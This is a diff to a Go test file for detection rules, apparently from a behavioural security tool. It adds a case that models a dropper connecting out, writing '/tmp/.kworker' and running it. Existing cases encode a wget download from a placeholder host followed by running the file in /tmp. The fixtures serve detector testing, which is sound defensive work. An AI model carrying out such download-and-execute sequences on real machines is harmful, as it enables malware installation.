@@ -70,6 +70,8 @@ func TestExecutionRules(t *testing.T) {
 			run: newRun("/usr/local/bin/dropper").open(1, "/tmp/.x/payload", wr).spawn(1, 10, "/tmp/.x/payload", "payload").done()},
 		{name: "downloaded then run", rule: "execution.dropped-payload", want: true, tech: "T1105",
 			run: sh("x").spawn(1, 10, "/usr/bin/wget", "wget", "-O", "/tmp/p", "http://dl.example/p").connect(10, "192.0.2.1", 80, 0).open(10, "/tmp/p", wr).spawn(1, 11, "/tmp/p", "/tmp/p").done()},
+		{name: "program downloads (non-blocking connect) then runs it", rule: "execution.dropped-payload", want: true, tech: "T1105",
+			run: newRun("/usr/local/bin/dropper").connect(1, "10.13.128.1", 80, 115).open(1, "/tmp/.kworker", wr).spawn(1, 10, "/tmp/.kworker", "payload").done()},
 		{name: "compiled then run", rule: "execution.dropped-payload", want: true, tech: "T1027.004",
 			run: sh("x").spawn(1, 10, "/usr/bin/gcc", "gcc", "-o", "/tmp/a", "/tmp/a.c").open(10, "/tmp/a", wr).spawn(1, 11, "/tmp/a", "/tmp/a").done()},
 		{name: "benign: package manager installs then runs", rule: "execution.dropped-payload", want: false,
